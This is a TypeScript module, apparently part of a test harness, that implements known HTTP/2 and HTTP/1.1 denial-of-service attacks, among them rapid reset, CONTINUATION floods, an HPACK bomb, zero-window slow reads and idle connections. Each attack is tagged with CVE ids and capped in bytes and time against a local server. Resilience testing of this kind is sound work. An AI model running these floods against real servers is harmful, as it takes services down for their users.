/** Known attacks on HTTP servers, limited in bytes. Each uses 20 connections and reconnects when they are closed. */
import { Buffer } from 'node:buffer';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';
import {
  block,
  connectTls,
  type Field,
  flag,
  frame,
  hpackInteger,
  indexedField,
  post,
  preface,
  pseudo,
  setting,
  settings,
  types,
  uint32,
} from './frames.ts';

const megabyte = 1e6;
/** Maximum duration of an attack. */
const mostMs = 3_000;
/** Time after which an unresponsive server is no longer awaited. */
const patienceMs = 300;

export interface Victim {
  readonly port: number;
  /** Token of a user without permissions. */
  readonly token: string;
  /** Path of a list of 12 MB that the administrator can read. */
  readonly list: string;
  readonly adminToken: string;
}

export interface Attack {
  readonly name: string;
  /** Ids of advisories. */
  readonly cves?: readonly string[];
  /** Runs the attack. Resolves to the function that closes its connections. */
  run(victim: Victim): Promise<() => void>;
}

/** The data of one HTTP/2 connection. */
interface Flood {
  readonly connections?: number;
  readonly octets?: number;
  /** Sent first on each connection. */
  readonly first?: (victim: Victim) => Buffer;
  /** Sent repeatedly; `round` counts from 0 on each connection. */
  readonly next: (round: number, victim: Victim) => Buffer;
  /** True if responses are read. Default: false. */
  readonly reads?: boolean;
}

async function taken(socket: Socket): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const timer = setTimeout(resolve, patienceMs);
  const done = (): void => resolve();
  socket.once('drain', done).once('close', done);
  await promise;
  clearTimeout(timer);
  socket.off('drain', done).off('close', done);
}

function flood(
  name: string,
  cves: readonly string[],
  { connections = 20, octets = 16 * megabyte, first, next, reads = false }: Flood,
): Attack {
  return {
    name,
    cves,
    run: async (victim) => {
      const sockets = new Set<Socket>();
      const ends = performance.now() + mostMs;
      let left = octets;
      const attack = async (): Promise<void> => {
        while (left > 0 && performance.now() < ends) {
          const socket = await connectTls(victim).catch(() => undefined);
          if (!socket) continue;
          sockets.add(socket);
          if (reads) socket.resume();
          else socket.pause();
          const isOpen = (): boolean => !socket.destroyed && socket.writable;
          socket.write(Buffer.concat([preface, settings(), first?.(victim) ?? Buffer.alloc(0)]));
          for (let round = 0; left > 0 && performance.now() < ends && isOpen(); round++) {
            const bytes = next(round, victim);
            left -= bytes.length;
            if (!socket.write(bytes)) await taken(socket);
            else await sleep(0);
            // The socket is blocked, so another connection continues.
            if (socket.writableLength > megabyte) break;
          }
        }
      };
      await Promise.all(Array.from({ length: connections }, attack));
      return () => {
        for (const socket of sockets) socket.destroy();
      };
    },
  };
}

const repeat = (count: number, make: (i: number) => Buffer): Buffer => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const authorized = ({ token }: Victim): Field => ['authorization', `Bearer ${token}`];
const perRound = 200;
const streamOf = (round: number, i: number): number => 1 + 2 * (round * perRound + i);
const path = '/api/v1/namespaces/default/configmaps';
const upload = (stream: number, victim: Victim): Buffer => post(stream, path, authorized(victim), ['content-type', 'application/json']);
const head = (stream: number, victim: Victim, path: string, ...more: Field[]): Buffer =>
  frame(types.headers, flag.endHeaders | flag.endStream, stream, block([...pseudo('GET', path), authorized(victim), ...more]));
/** Returns an incomplete header block. */
const openBlock = (victim: Victim): Buffer => frame(types.headers, 0, 1, block([...pseudo('GET', '/'), authorized(victim)]));
const dataFrames = (stream: number, size: number, count: number): Buffer =>
  repeat(count, () => frame(types.data, 0, stream, Buffer.alloc(size, ' ')));

/** Returns an entry of 4,000 bytes, followed by references of one byte each. */
const bomb = (round: number): Buffer => {
  const large = indexedField('x-bomb', 'b'.repeat(4_000));
  const fields = Buffer.concat([block(pseudo('GET', '/')), ...(round === 0 ? [large] : []), Buffer.alloc(10_000, 0xbe)]);
  return frame(types.headers, flag.endHeaders | flag.endStream, 1 + 2 * round, fields);
};

/** Requests lists with a flow control window of zero or single bytes. */
const unreadLists = (name: string, cves: readonly string[], more: (round: number) => Buffer): Attack =>
  flood(name, cves, {
    connections: 10,
    octets: 2 * megabyte,
    reads: true,
    first: (victim) =>
      Buffer.concat([
        frame(types.settings, 0, 0, settings([setting.initialWindowSize, 0]).subarray(9)),
        repeat(10, (i) =>
          frame(
            types.headers,
            flag.endHeaders | flag.endStream,
            1 + 2 * i,
            block([
              ...pseudo('GET', `${victim.list}?labelSelector=${encodeURIComponent(`a!=${Math.random()}`)}`),
              ['authorization', `Bearer ${victim.adminToken}`],
            ]),
          ),
        ),
      ]),
    next: more,
  });

function http1(name: string, cves: readonly string[], connections: number, bytesOf: (victim: Victim) => readonly Buffer[]): Attack {
  return {
    name,
    cves,
    run: async (victim) => {
      const sockets = await Promise.all(
        Array.from({ length: connections }, async () => {
          const socket = tls.connect({ host: '127.0.0.1', port: victim.port, rejectUnauthorized: false, ALPNProtocols: ['http/1.1'] });
          socket.on('error', () => undefined).pause();
          return socket;
        }),
      );
      const ends = performance.now() + mostMs;
      await Promise.all(
        sockets.map(async (socket) => {
          for (const bytes of bytesOf(victim)) {
            if (socket.destroyed || performance.now() > ends || socket.writableLength > megabyte) return;
            if (!socket.write(bytes)) await taken(socket);
            else await sleep(0);
          }
        }),
      );
      await sleep(500);
      return () => {
        for (const socket of sockets) socket.destroy();
      };
    },
  };
}

/** Opens connections that send nothing or little. */
function idle(
  name: string,
  count: number,
  open: (victim: Victim) => Promise<Socket>,
  drip?: (socket: Socket, round: number) => void,
): Attack {
  return {
    name,
    run: async (victim) => {
      const sockets: Socket[] = [];
      for (let at = 0; at < count; at += 50) sockets.push(...(await Promise.all(Array.from({ length: 50 }, () => open(victim)))));
      for (let round = 0; round < 20; round++) {
        await sleep(100);
        if (drip) for (const socket of sockets) if (socket.writable) drip(socket, round);
      }
      return () => {
        for (const socket of sockets) socket.destroy();
      };
    },
  };
}

const silentTcp = async ({ port }: Victim): Promise<Socket> => {
  const socket = connectTcp({ port, host: '127.0.0.1' });
  socket.on('error', () => undefined);
  return socket;
};

export const attacks: readonly Attack[] = [
  flood('rapid reset', ['CVE-2023-44487'], {
    octets: 8 * megabyte,
    reads: true,
    next: (round, victim) =>
      repeat(perRound, (i) =>
        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.resetStream, 0, streamOf(round, i), uint32(8))]),
      ),
  }),
  flood('made-you-reset by a window update of 0', ['CVE-2025-8671'], {
    octets: 8 * megabyte,
    reads: true,
    next: (round, victim) =>
      repeat(perRound, (i) =>
        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.windowUpdate, 0, streamOf(round, i), uint32(0))]),
      ),
  }),
  flood('made-you-reset by DATA after END_STREAM', ['CVE-2025-8671'], {
    octets: 8 * megabyte,
    reads: true,
    next: (round, victim) =>
      repeat(perRound, (i) =>
        Buffer.concat([head(streamOf(round, i), victim, '/version'), frame(types.data, 0, streamOf(round, i), Buffer.from('d'))]),
      ),
  }),
  flood('malformed requests without reading the resets', ['CVE-2019-9514'], {
    octets: 8 * megabyte,
    next: (round) =>
      repeat(perRound, (i) => frame(types.headers, flag.endHeaders | flag.endStream, streamOf(round, i), Buffer.from([0x82, 0x87]))),
  }),
  flood('CONTINUATION of one octet', ['CVE-2024-27316', 'CVE-2024-28182', 'CVE-2023-45288'], {
    connections: 40,
    first: (victim) => Buffer.concat([openBlock(victim), frame(types.continuation, 0, 1, Buffer.from([0x00, 0x7f, 0xff, 0xff, 0x3f]))]),
    next: () => repeat(2_000, () => frame(types.continuation, 0, 1, Buffer.from('a'))),
  }),
  flood('empty CONTINUATION', ['CVE-2024-27316', 'CVE-2024-28182'], {
    first: openBlock,
    next: () => repeat(2_000, () => frame(types.continuation, 0, 1)),
  }),
  flood('endless large CONTINUATION', ['CVE-2024-27316', 'CVE-2023-45288'], {
    octets: 64 * megabyte,
    first: openBlock,
    next: (round) => frame(types.continuation, 0, 1, block([[`x-${round}`, 'v'.repeat(16_000)]])),
  }),
  flood('connections that end within a header block', ['CVE-2024-27983'], {
    octets: 4 * megabyte,
    first: openBlock,
    next: (round) => {
      const bytes = frame(types.continuation, 0, 1, block([['x-a', 'v'.repeat(8_000)]]));
      return round < 3 ? bytes : Buffer.concat([bytes, frame(types.goAway, 0, 0, uint32(0, 0)), Buffer.alloc(9, 0xff)]);
    },
  }),
  flood('empty DATA', ['CVE-2019-9518'], {
    first: (victim) => upload(1, victim),
    next: () => repeat(2_000, () => frame(types.data, 0, 1)),
  }),
  flood('fields with empty names and values', ['CVE-2019-9516'], {
    next: (round) =>
      frame(
        types.headers,
        flag.endHeaders | flag.endStream,
        1 + 2 * round,
        Buffer.concat([block(pseudo('GET', '/')), Buffer.alloc(15_000)]),
      ),
  }),
  flood('SETTINGS', ['CVE-2019-9515'], { next: () => repeat(2_000, () => settings()) }),
  flood('SETTINGS with many entries', ['CVE-2020-11080'], {
    next: () => frame(types.settings, 0, 0, Buffer.concat(Array.from({ length: 2_400 }, () => Buffer.from([0, 4, 0, 0, 0xff, 0xff])))),
  }),
  flood('PING', ['CVE-2019-9512'], { next: () => repeat(1_000, () => frame(types.ping, 0, 0, Buffer.alloc(8))) }),
  flood('PRIORITY', ['CVE-2019-9513'], {
    next: (round) =>
      repeat(1_000, (i) =>
        frame(types.priority, 0, 1 + 2 * i, Buffer.concat([uint32(1 + 2 * ((i + round) % 1_000) + 2), Buffer.from([round % 256])])),
      ),
  }),
  flood('HPACK bomb', ['CVE-2016-6581', 'CVE-2016-1544'], { octets: 4 * megabyte, next: bomb }),
  flood('field names that never repeat', ['CVE-2022-41717'], {
    next: (round, victim) =>
      head(
        1 + 2 * round,
        victim,
        '/version',
        ...Array.from({ length: 200 }, (_, i): Field => [`x-${Math.random().toString(36).slice(2)}-${i}`, 'v']),
      ),
    reads: true,
  }),
  flood('an HPACK string in single octets', ['CVE-2022-41723'], {
    first: (victim) =>
      Buffer.concat([
        openBlock(victim),
        frame(types.continuation, 0, 1, Buffer.concat([Buffer.from([0x00, 0x01, 0x61]), hpackInteger(0x80, 0x7f, 900_000)])),
      ]),
    next: () => repeat(1_000, () => frame(types.continuation, 0, 1, Buffer.from([0x1f]))),
  }),
  unreadLists('lists with a window of 0', ['CVE-2019-9511', 'CVE-2019-9517'], (round) => {
    void round;
    return frame(types.ping, 0, 0, Buffer.alloc(8));
  }),
  unreadLists('lists with a window that grows by single octets', ['CVE-2019-9511'], () =>
    repeat(10, (i) => frame(types.windowUpdate, 0, 1 + 2 * i, uint32(1))),
  ),
  flood('unread lists with an open window', ['CVE-2019-9517'], {
    connections: 10,
    octets: megabyte,
    first: () => Buffer.concat([settings([setting.initialWindowSize, 0x7fffffff]), frame(types.windowUpdate, 0, 0, uint32(0x7fff0000))]),
    next: (round, victim) =>
      round < 10
        ? frame(
            types.headers,
            flag.endHeaders | flag.endStream,
            1 + 2 * round,
            block([
              ...pseudo('GET', `${victim.list}?labelSelector=a%21%3D${Math.random()}`),
              ['authorization', `Bearer ${victim.adminToken}`],
            ]),
          )
        : frame(types.priority, 0, 1, Buffer.alloc(5)),
  }),
  flood('DATA of one octet', [], {
    octets: 40 * megabyte,
    connections: 4,
    reads: true,
    first: (victim) => repeat(50, (i) => upload(1 + 2 * i, victim)),
    next: (round) => dataFrames(1 + 2 * (round % 50), 1, 1_000),
  }),
  http1('HTTP/1.1: chunks of one octet', [], 20, ({ token }) => [
    Buffer.from(
      `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`,
    ),
    ...Array.from({ length: 100 }, () => Buffer.from('1\r\n \r\n'.repeat(1_500))),
  ]),
  http1('HTTP/1.1: 2,000 pipelined requests', [], 20, ({ token }) =>
    Array.from({ length: 20 }, () => Buffer.from(`GET /version HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${token}\r\n\r\n`.repeat(100))),
  ),
  idle('silent TCP connections', 500, silentTcp),
  idle('silent TLS connections', 250, connectTls),
  idle('a frame in single octets', 250, connectTls, (socket, round) => {
    const bytes = Buffer.concat([preface, frame(types.headers, flag.endStream, 1, block(pseudo('GET', '/')))]);
    socket.write(bytes.subarray(round * 2, round * 2 + 2));
  }),
];
